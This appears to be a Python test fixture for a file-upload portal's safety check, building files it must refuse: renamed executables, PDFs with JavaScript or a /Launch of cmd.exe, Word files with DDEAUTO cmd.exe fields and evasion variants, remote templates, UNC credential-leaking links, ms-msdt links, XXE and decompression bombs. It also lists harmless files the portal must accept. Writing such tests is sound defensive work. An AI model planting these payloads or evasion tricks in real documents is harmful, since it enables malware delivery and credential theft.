"""The nastiest files: what each is, its name and bytes, and what the portal says of it."""

import struct
import zlib

from tests.files import (
    DOCX,
    JPG,
    PDF,
    PNG,
    XLSX,
    jpeg,
    office,
    packed_pdf,
    pdf_with,
    relations,
    zipped,
)

_RELS = "word/_rels/document.xml.rels"
_SCRIPT = b"<html><script>fetch('/')</script></html>"
_JS = "7 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n"
_PACKED_JS, _PACKING = b"7 0 << /S /JavaScript /JS (x) >>", "cấu trúc nén bất thường"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def png_sized(width: int, height: int) -> bytes:
    """A PNG that says it has that size."""
    header = struct.pack(">4sIIBBBBB", b"IHDR", width, height, 8, 2, 0, 0, 0)
    return PNG[:12] + header + struct.pack(">I", zlib.crc32(header)) + PNG[33:]


def _instr(*runs: str) -> bytes:
    fields = "".join(f'<w:r><w:instrText xml:space="preserve">{run}</w:instrText></w:r>' for run in runs)
    return _document(f"<w:p>{fields}</w:p>")


def _field(*code: str) -> bytes:
    """A field whose code is these elements, and a result that only speaks of DDE."""
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    runs = [mark.format("begin"), *(f"<w:r>{piece}</w:r>" for piece in code), mark.format("separate")]
    return _document(f"<w:p>{''.join(runs)}<w:r><w:t>DDEAUTO</w:t></w:r>{mark.format('end')}</w:p>")


def _document(body: str) -> bytes:
    word = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    return f'<?xml version="1.0"?><w:document xmlns:w="{word}"><w:body>{body}</w:body></w:document>'.encode()


# (what it is, its name, its bytes, words of the refusal)
FILES = [
    ("chương trình .exe đổi đuôi thành .pdf", "bao-cao.pdf", b"MZ\x90\0" + b"\0" * 60, "không phải là .pdf"),
    ("ảnh SVG có mã chạy", "logo.svg", b"<svg onload='alert(1)'/>", "Không nhận tệp"),
    ("SVG đổi đuôi thành .png", "logo.png", b"<svg onload='alert(1)'/>", "không phải là .png"),
    ("trang HTML đổi đuôi thành .jpg", "anh.jpg", _SCRIPT, "không phải là .jpg"),
    ("tên lật chữ “bao-cao‮fdp.exe” (hiện như .pdf)", "bao-cao\u202efdp.exe", PDF, "Không nhận tệp"),
    ("PDF chứa trang HTML ở đầu", "a.pdf", pdf_with(head=b"%" + _SCRIPT + b"\n"), "loại khác ghép vào"),
    (
        "PDF nối thêm tệp nén ở cuối (mở được bằng cả hai chương trình)",
        "a.pdf",
        PDF + zipped({"a.js": "x"}),
        "loại khác ghép vào",
    ),
    ("PDF có JavaScript", "a.pdf", pdf_with(objects=_JS), "JavaScript"),
    (
        "PDF có JavaScript viết bằng mã #4A…",
        "a.pdf",
        pdf_with(objects=_JS.replace("/JavaScript", "/#4aava#53cript")),
        "JavaScript",
    ),
    ("PDF giấu JavaScript trong luồng nén", "a.pdf", packed_pdf(b"7 0 << /S /JavaScript /JS (x) >>"), "JavaScript"),
    (
        "PDF có lệnh mở chương trình",
        "a.pdf",
        pdf_with(objects="7 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n"),
        "mở chương trình",
    ),
    (
        "PDF đính tệp khác bên trong",
        "a.pdf",
        pdf_with(objects="7 0 obj\n<< /Type /EmbeddedFile >>\nendobj\n"),
        "tệp khác đính",
    ),
    ("PDF đặt mật khẩu, hoặc khóa quyền in, sao chép", "a.pdf", pdf_with(trailer="/Encrypt 8 0 R "), "khóa quyền"),
    ("PDF với luồng bung ra hàng chục MB", "a.pdf", packed_pdf(b"\0" * (65 * 1024 * 1024)), "cấu trúc nén bất thường"),
    ("PDF bị cắt cụt giữa chừng", "a.pdf", PDF[: len(PDF) // 2], "cắt cụt"),
    ("PNG tự khai 60.000 × 60.000 điểm ảnh (bom ảnh)", "a.png", png_sized(60_000, 60_000), "60000 × 60000"),
    ("PNG rộng 0 điểm ảnh", "a.png", png_sized(0, 10), "hỏng"),
    ("PNG nối thêm tệp nén ở cuối", "a.png", PNG + zipped({"a.exe": "MZ"}), "loại khác ghép vào"),
    ("JPG 65.000 × 65.000 điểm ảnh", "a.jpg", jpeg(65_000, 65_000), "65000 × 65000"),
    ("JPG nối thêm tệp .jar ở cuối (GIFAR)", "a.jpg", jpeg(behind=zipped({"a.class": "x"})), "loại khác ghép vào"),
    ("Word có macro (vbaProject.bin)", "a.docx", office(DOCX, {"word/vbaProject.bin": b"x"}), "macro"),
    ("Word có macro đổi tên phần thành chữ hoa", "a.docx", office(DOCX, {"word/VBAPROJECT.BIN": b"x"}), "macro"),
    (
        ".docm đổi đuôi thành .docx",
        "a.docx",
        office(DOCX, {"[Content_Types].xml": b"<Types>macroEnabled.main+xml</Types>"}),
        "macro",
    ),
    ("Excel có macro kiểu cũ (Excel 4.0)", "a.xlsx", office(XLSX, {"xl/macrosheets/sheet1.xml": b"<x/>"}), "Excel 4.0"),
    (
        "Word lấy mẫu (template) từ máy lạ",
        "a.docx",
        office(
            DOCX, {"word/_rels/settings.xml.rels": relations(("attachedTemplate", "https://x.example/t.dotm", True))}
        ),
        "template",
    ),
    (
        "Word lấy ảnh từ máy lạ (lộ việc mở tệp)",
        "a.docx",
        office(DOCX, {_RELS: relations(("image", "https://x.example/a.png", True))}),
        "lấy nội dung từ nơi khác",
    ),
    (
        "Word lấy ảnh qua \\\\máy-lạ (lộ mật khẩu Windows)",
        "a.docx",
        office(DOCX, {_RELS: relations(("image", "\\\\x.example\\a.png", True))}),
        "lấy nội dung từ nơi khác",
    ),
    (
        "Word có đối tượng OLE",
        "a.docx",
        office(DOCX, {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"x" * 600}),
        "OLE",
    ),
    (
        "Word có liên kết chạy lệnh (ms-msdt:, file:)",
        "a.docx",
        office(DOCX, {_RELS: relations(("hyperlink", "ms-msdt:/id", True))}),
        "chương trình trên máy",
    ),
    (
        "Word có trường DDE cắt làm nhiều mảnh",
        "a.docx",
        office(DOCX, {"word/document.xml": _instr("DDE", "AUTO c:\\\\cmd.exe")}),
        "DDE",
    ),
    (
        "Excel nối với tệp khác",
        "a.xlsx",
        office(XLSX, {"xl/_rels/workbook.xml.rels": relations(("externalLink", "externalLinks/e1.xml", False))}),
        "nối với tệp Excel khác",
    ),
    (
        "Word có khai báo DOCTYPE (XXE, “tỷ tiếng cười”)",
        "a.docx",
        office(DOCX, {"word/document.xml": b'<!DOCTYPE a [<!ENTITY b "c">]>' + _document("")}),
        "DOCTYPE",
    ),
    (
        "tệp Word vài chục KB bung ra hàng chục MB (bom nén)",
        "a.docx",
        office(DOCX, {"word/media/a.bin": b"\0" * (66 * 1024 * 1024)}),
        "bung ra",
    ),
    ("tệp nén thường đổi đuôi thành .docx", "a.docx", zipped({"a.txt": "x"}), "không phải là .docx lành lặn"),
    ("Excel đổi đuôi thành .docx", "a.docx", XLSX, "bên trong là bảng tính"),
    ("Word có tệp khác nối ở đầu", "a.docx", b"PK\x03\x04<html>" + DOCX, "loại khác ghép vào"),
    (
        "Word đặt mật khẩu",
        "a.docx",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512 + "EncryptedPackage".encode("utf-16-le"),
        "mật khẩu",
    ),
    ("tệp trống", "a.pdf", b"", "trống"),
]

# Near relations of those above: tried as they are, not in the table of the forty.
RELATIVES = [
    (
        "PDF có JavaScript, tên kết thúc bằng byte 0",
        "a.pdf",
        pdf_with(objects=_JS.replace(" /JS", "\0/JS")),
        "JavaScript",
    ),
    (
        "PDF có JavaScript, tên kết thúc bằng chú thích",
        "a.pdf",
        pdf_with(objects=_JS.replace(" /JS", "%x\n/JS")),
        "JavaScript",
    ),
    (
        "PDF có luồng nén với chữ “obj” trong từ điển",
        "a.pdf",
        packed_pdf(_PACKED_JS, head="/Filter /FlateDecode /K (obj)"),
        _PACKING,
    ),
    (
        "PDF có luồng nén với 5.000 dấu cách trong từ điển",
        "a.pdf",
        packed_pdf(_PACKED_JS, head="/Filter /FlateDecode" + " " * 5000),
        "JavaScript",
    ),
    (
        "PDF có luồng nén hai lần",
        "a.pdf",
        packed_pdf(_PACKED_JS, head="/Filter [/FlateDecode /FlateDecode]", times=2),
        _PACKING,
    ),
    (
        "PDF có luồng nén kèm bộ dự đoán",
        "a.pdf",
        packed_pdf(_PACKED_JS, head="/Filter /FlateDecode /DecodeParms <</Predictor 12>>"),
        _PACKING,
    ),
    ("PDF có luồng nén với chú thích trước chữ stream", "a.pdf", packed_pdf(_PACKED_JS, end=">>%"), _PACKING),
    (
        "PDF có luồng nén không khai là luồng đối tượng",
        "a.pdf",
        packed_pdf(_PACKED_JS).replace(b"/Type /ObjStm", b""),
        "JavaScript",
    ),
    (
        "PDF có luồng nén lấy nội dung từ tệp khác",
        "a.pdf",
        packed_pdf(_PACKED_JS, head="/F 7 0 R /Filter /FlateDecode"),
        _PACKING,
    ),
    ("PDF khóa quyền, tên kết thúc bằng byte 0", "a.pdf", pdf_with(trailer="/Encrypt\x008 0 R "), "khóa quyền"),
    (
        "Word có trường DDE viết bằng mã ký tự",
        "a.docx",
        office(DOCX, {"word/document.xml": _instr("&#68;DEAUTO c:\\cmd.exe")}),
        "DDE",
    ),
    (
        "Word có trường DDE trong CDATA",
        "a.docx",
        office(DOCX, {"word/document.xml": _instr("<![CDATA[DDEAUTO]]> c:\\cmd.exe")}),
        "DDE",
    ),
    (
        "Word có trường DDE cắt bằng ghi chú XML",
        "a.docx",
        office(DOCX, {"word/document.xml": _instr("DDE<!-- x -->AUTO c:\\cmd.exe")}),
        "DDE",
    ),
    (
        "Word có trường DDE trong fldSimple, có dấu cách",
        "a.docx",
        office(DOCX, {"word/document.xml": _document('<w:p><w:fldSimple w:instr = "DDEAUTO c:\\cmd.exe"/></w:p>')}),
        "DDE",
    ),
    (
        "Word có trường DDE viết theo UTF-16",
        "a.docx",
        office(
            DOCX,
            {
                "word/document.xml": _document("<w:p><w:r><w:instrText>DDEAUTO c</w:instrText></w:r></w:p>")
                .decode()
                .replace('"1.0"', '"1.0" encoding="utf-16"')
                .encode("utf-16")
            },
        ),
        "DDE",
    ),
    (
        "Word có trường DDE viết bằng chữ thường trong mã trường",
        "a.docx",
        office(DOCX, {"word/document.xml": _field("<w:t>DDE</w:t>", "<w:t>AUTO c:</w:t>")}),
        "DDE",
    ),
    (
        "Word có bảng tính nhúng với macro kiểu cũ",
        "a.docx",
        office(DOCX, {"word/embeddings/b.xlsx": office(XLSX, {"xl/macrosheets/sheet1.xml": b"<x/>"})}),
        "Excel 4.0",
    ),
    (
        "Word có bảng tính nhúng nối với tệp khác",
        "a.docx",
        office(
            DOCX,
            {
                "word/embeddings/b.xlsx": office(
                    XLSX, {"xl/_rels/workbook.xml.rels": relations(("externalLink", "externalLinks/e1.xml", False))}
                )
            },
        ),
        "nối với tệp Excel khác",
    ),
    (
        "Word có tệp nhúng trong tệp nhúng",
        "a.docx",
        office(DOCX, {"word/embeddings/b.xlsx": office(XLSX, {"xl/embeddings/c.xlsx": XLSX})}),
        "nhúng bên trong",
    ),
    (
        "Word có tệp nén nhúng bên trong",
        "a.docx",
        office(DOCX, {"word/embeddings/b.bin": zipped({"a.txt": "x"})}),
        "nhúng bên trong",
    ),
]

# What must go on being taken although it looks odd.
TAKEN = [
    ("PDF", "a.pdf", PDF),
    (
        "PDF with a link to a page",
        "a.pdf",
        pdf_with(objects="7 0 obj\n<< /S /URI /URI (https://x.gov.vn) >>\nendobj\n"),
    ),
    ("PDF with packed plain objects", "a.pdf", packed_pdf(b"7 0 << /Type /Page >>")),
    (
        "PDF with an outline",
        "a.pdf",
        pdf_with(objects="7 0 obj\n<< /Type /Outlines /First 8 0 R /Count 1 >>\nendobj\n"),
    ),
    (
        "PDF with packed objects, the filter in a list",
        "a.pdf",
        packed_pdf(b"7 0 << /N 1 >>", head="/Filter [ /FlateDecode ]"),
    ),
    ("PDF with packed objects as Word writes them", "a.pdf", packed_pdf(b"7 0 << /N 1 >>", head="/Filter/FlateDecode")),
    ("picture", "a.png", PNG),
    (
        "photo with a film behind it, as phones write",
        "a.jpg",
        jpeg(4000, 3000, behind=b"\0\0\0\x18ftypmp42" + b"x" * 50),
    ),
    ("photo", "a.JPG", JPG),
    (
        "Word with a link to a page",
        "a.docx",
        office(DOCX, {_RELS: relations(("hyperlink", "https://x.gov.vn/a?b=c:d", True))}),
    ),
    ("Word with a chart's workbook inside", "a.docx", office(DOCX, {"word/embeddings/b.xlsx": XLSX})),
    ("Word with a field", "a.docx", office(DOCX, {"word/document.xml": _instr(" PAGE ")})),
    (
        "Word that speaks of DDE in its text",
        "a.docx",
        office(DOCX, {"word/document.xml": _document("<w:p><w:r><w:t>DDEAUTO</w:t></w:r></w:p>")}),
    ),
    (
        "Word with a field whose result speaks of DDE",
        "a.docx",
        office(DOCX, {"word/document.xml": _field("<w:instrText>PAGE</w:instrText>")}),
    ),
    ("Excel", "a.xlsx", XLSX),
]
